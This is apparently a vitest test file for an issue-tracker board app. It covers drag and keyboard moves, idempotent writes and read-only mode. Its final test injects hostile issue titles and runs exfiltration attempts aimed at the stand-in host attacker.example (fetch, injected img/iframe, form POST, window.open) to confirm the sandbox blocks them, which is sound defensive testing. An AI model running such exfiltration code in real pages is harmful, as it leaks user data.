import { linearEmulator } from '@mcp-toolkits/linear-emulator'
import { connect, type ConnectSettings } from '@mcp-toolkits/testing'
import { describe, expect, onTestFinished, test } from 'vitest'
import * as z from 'zod'
import { issueTracker } from '../../servers.ts'
import { field } from '../agent.ts'
import { chromiumPath, picture } from '../chromium.ts'
import { payloads } from '../workspace/payloads.ts'
import { profiles } from './profiles.ts'
import { hostClient, inspectApp, inspectEverywhere, type Scene, showApp, type Stage } from './stage.ts'

const shouldRun = chromiumPath !== undefined || process.env['CI'] === 'true'
const apiKey = 'lin_api_k3yOfTheBoard'

/** A tracker with an account at an emulated Linear, and a host's client. */
async function tracker(settings: ConnectSettings = {}) {
  const emulator = linearEmulator({ seed: 'company', apiKey })
  const documents: string[] = []
  const fetch: typeof emulator.fetch = async (input, init) => {
    const request = new Request(input, init)
    documents.push(await request.clone().text())
    return emulator.fetch(request)
  }
  const server = await issueTracker.withDefinition(async (definition) =>
    connect(definition, { fetch, environment: { ISSUE_TRACKER_API_KEY: apiKey }, ...settings }),
  )
  onTestFinished(async () => {
    await server[Symbol.asyncDispose]()
    await emulator.close()
  })
  const client = await hostClient(server.fetch)
  const show = (scene: Partial<Scene> = {}) =>
    showApp({ client, tool: 'IssueTracker_ListIssues', args: { team: 'ENG', limit: 40 }, ...scene })
  const stateOf = async (id: string) => field(await server.call('IssueTracker.GetIssue', { issue_id: id }), 'issue', 'state', 'name')
  return { server, client, show, stateOf, documents }
}

const cardOf = ({ app }: Stage, id: string) => app.locator(`.card[data-key="${id}"]`)
const columnOf = ({ app }: Stage, state: string) => app.locator(`section[aria-label^="${state},"]`)
const status = ({ app }: Stage) => app.locator('[role=status]')

const writes = ({ calls }: Stage) => calls.filter(({ key }) => key !== undefined)
const sizeOf = async ({ app }: Stage) => z.number().parse(await app.evaluate('document.documentElement.scrollHeight'))

describe.runIf(shouldRun)('the board', () => {
  test('shows content in every host, within 240 pixels, and axe finds nothing serious', async () => {
    const { show } = await tracker()
    for (const profile of profiles) await inspectEverywhere('board', profile, await show({ profile }))
  })

  test('is not the only app: projects are a table', async () => {
    const { show } = await tracker()
    const stage = await show({ tool: 'IssueTracker_ListProjects', args: {} })
    await stage.app.getByRole('button', { name: 'Project', exact: true }).click()
    const names = await stage.app.locator('tbody td:first-child').allInnerTexts()
    expect(names.length).toBeGreaterThan(2)
    expect(names).toEqual(names.toSorted((one, other) => one.localeCompare(other)))
    await inspectApp(stage)
    await picture(stage.page, 'projects')
  })

  test('moves the issue of a dragged card once, by keyboard too, and the model hears of it', async () => {
    const { show, stateOf, documents } = await tracker()
    const stage = await show()
    await columnOf(stage, 'Canceled').waitFor()
    await stage.app.getByRole('button', { name: 'Open', exact: true }).click()
    await stage.app.getByRole('button', { name: 'Close' }).waitFor()
    await expect.poll(() => sizeOf(stage)).toBeGreaterThan(500)
    await cardOf(stage, 'ENG-16').dragTo(columnOf(stage, 'In Progress').locator('h2'))
    await status(stage).getByText('You moved ENG-16 from "Todo" to "In Progress".').waitFor()
    expect(await stateOf('ENG-16')).toBe('In Progress')
    await picture(stage.page, 'board open')
    await cardOf(stage, 'ENG-16').focus()
    await stage.page.keyboard.press('Shift+ArrowRight')
    await status(stage).getByText('"In Progress" to "In Review"').waitFor()
    expect(await stage.app.evaluate('document.activeElement.dataset.key')).toBe('ENG-16')
    await stage.page.keyboard.press('Enter')
    await stage.app.getByLabel('Assignee').selectOption('Robin Vance')
    await status(stage).getByText('assigned ENG-16 to "Robin Vance"').waitFor()
    await stage.app.getByLabel('Priority').selectOption('urgent')
    await status(stage).getByText('priority of ENG-16 to urgent').waitFor()
    await inspectApp(stage)
    await picture(stage.page, 'board issue')
    await stage.page.keyboard.press('Escape')
    await stage.app.getByRole('searchbox').fill('robin urgent enG-16')
    await expect.poll(() => stage.app.locator('.card').count()).toBe(1)
    expect(await stage.context()).toBe(
      [
        'moved ENG-16 from "Todo" to "In Progress"',
        'moved ENG-16 from "In Progress" to "In Review"',
        'assigned ENG-16 to "Robin Vance"',
        'set the priority of ENG-16 to urgent',
      ]
        .map((words) => `The person ${words}. It is done; do not repeat it.`)
        .join('\n'),
    )
    expect(new Set(writes(stage).map(({ key }) => key)).size).toBe(4)
    expect(documents.filter((document) => document.includes('mutation'))).toHaveLength(4)
  })

  test('makes a change once whose answer is lost, and takes back one that is refused', async () => {
    const { show, stateOf, documents } = await tracker()
    const lost = ['lost']
    const stage = await show({
      async answer(call) {
        const answer = await call()
        if (documents.some((document) => document.includes('mutation')) && lost.pop() !== undefined)
          throw new Error('The connection was lost')
        return answer
      },
    })
    await columnOf(stage, 'Canceled').waitFor()
    const press = async () => {
      await cardOf(stage, 'ENG-16').focus()
      await stage.page.keyboard.press('Shift+ArrowRight')
    }
    await press()
    await status(stage).getByText('nothing is done twice').waitFor()
    await press()
    await status(stage).getByText('moved ENG-16 from "Todo" to "In Progress"').waitFor()
    expect(await stateOf('ENG-16')).toBe('In Progress')
    expect(documents.filter((document) => document.includes('mutation'))).toHaveLength(1)
    expect(new Set(writes(stage).map(({ key }) => key)).size).toBe(1)
  })

  test('makes a change again after another one of the same issue', async () => {
    const { show, stateOf } = await tracker()
    const lost = ['lost']
    const stage = await show({
      async answer(call) {
        const answer = await call()
        if (writes(stage).length > 0 && lost.pop() !== undefined) throw new Error('The connection was lost')
        return answer
      },
    })
    await columnOf(stage, 'Canceled').waitFor()
    await cardOf(stage, 'ENG-16').press(' ')
    const choose = (state: string) => stage.app.getByLabel('State').selectOption(state)
    await choose('In Progress')
    await status(stage).getByText('nothing is done twice').waitFor()
    await choose('Done')
    await status(stage).getByText('from "Todo" to "Done"').waitFor()
    await choose('In Progress')
    await status(stage).getByText('from "Done" to "In Progress"').waitFor()
    expect(await stateOf('ENG-16')).toBe('In Progress')
    expect(new Set(writes(stage).map(({ key }) => key)).size).toBe(3)
  })

  test('offers no change where the server allows none', async () => {
    const { show } = await tracker({ readOnly: true })
    const stage = await show()
    await cardOf(stage, 'ENG-16').press('Enter')
    await stage.app.getByText('shows the old price').first().waitFor()
    expect(await stage.app.locator('select').count()).toBe(0)
    expect(stage.calls.map(({ tool }) => tool)).toEqual(['GetIssue'])
  })

  test('lets nothing out, whatever titles say', async () => {
    const { server, show } = await tracker({ toolsets: ['triage'] })
    const issues = payloads.map((title) => ({ team: 'ENG', title, description: title }))
    for (const part of [issues.slice(50), issues.slice(0, 50)]) await server.call('IssueTracker.BatchCreateIssues', { issues: part })
    const stage = await show({ args: { team: 'ENG', limit: 50 } })
    await stage.app.getByRole('button', { name: 'More' }).click()
    const hostile = async () => (await stage.app.locator('.card .title').allTextContents()).filter((title) => /pwned|attacker/.test(title))
    await expect.poll(async () => (await hostile()).length).toBe(60)
    await stage.app.locator('.card').first().press('Enter')
    await stage.app.locator('.text').waitFor()
    expect(await stage.app.evaluate('globalThis.pwned')).toBeUndefined()
    // The sandbox stops things that the page itself never does.
    const escapes = [
      "fetch('https://attacker.example/')",
      "document.body.insertAdjacentHTML('beforeend', '<img src=https://attacker.example/x.png><iframe src=https://attacker.example/></iframe>')",
      "Object.assign(document.createElement('form'), { action: 'https://attacker.example/', method: 'post' }).submit()",
      "open('https://attacker.example/')",
    ]
    for (const escape of escapes) await stage.app.evaluate(`Promise.resolve().then(() => ${escape}).then(() => 0, () => 0)`)
  })
})
